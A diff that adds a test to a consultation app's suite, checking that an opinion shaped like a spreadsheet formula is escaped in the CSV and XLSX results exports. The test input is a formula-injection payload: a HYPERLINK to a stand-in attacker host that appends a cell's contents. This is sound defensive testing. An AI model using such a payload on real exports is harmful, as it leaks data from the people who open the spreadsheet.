@@ -160,3 +160,27 @@ def test_results_of_two_thousand_responses_render_in_a_bounded_number_of_queries
     ):
         report = client.get(consultation.subpage_url("report"))
     assert "意见 1999" in report.content.decode()  # the report lists every opinion
+
+
+def test_an_opinion_shaped_like_a_formula_reaches_the_exports_as_text(
+    client, consultation, owner, committee_chair
+):
+    formula = '=HYPERLINK("http://evil.example/?d="&B2,"查看详情")'
+    actions.submit_response(
+        consultation,
+        owner,
+        answers=valid_answers(consultation),
+        opinions={section(consultation, 2).anchor: formula},
+    )
+    client.force_login(committee_chair)
+    raw = client.get(consultation.subpage_url("results_csv")).content
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
+    cells = [cell for row in rows for cell in row]
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
+    assert any("HYPERLINK" in cell and cell.startswith("'=") for cell in cells)
+
+    xlsx = client.get(consultation.subpage_url("results_xlsx")).content
+    sheet = load_workbook(io.BytesIO(xlsx)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert not any(cell.data_type == "f" for cell in cells)
+    assert any(isinstance(c.value, str) and "HYPERLINK" in c.value for c in cells)
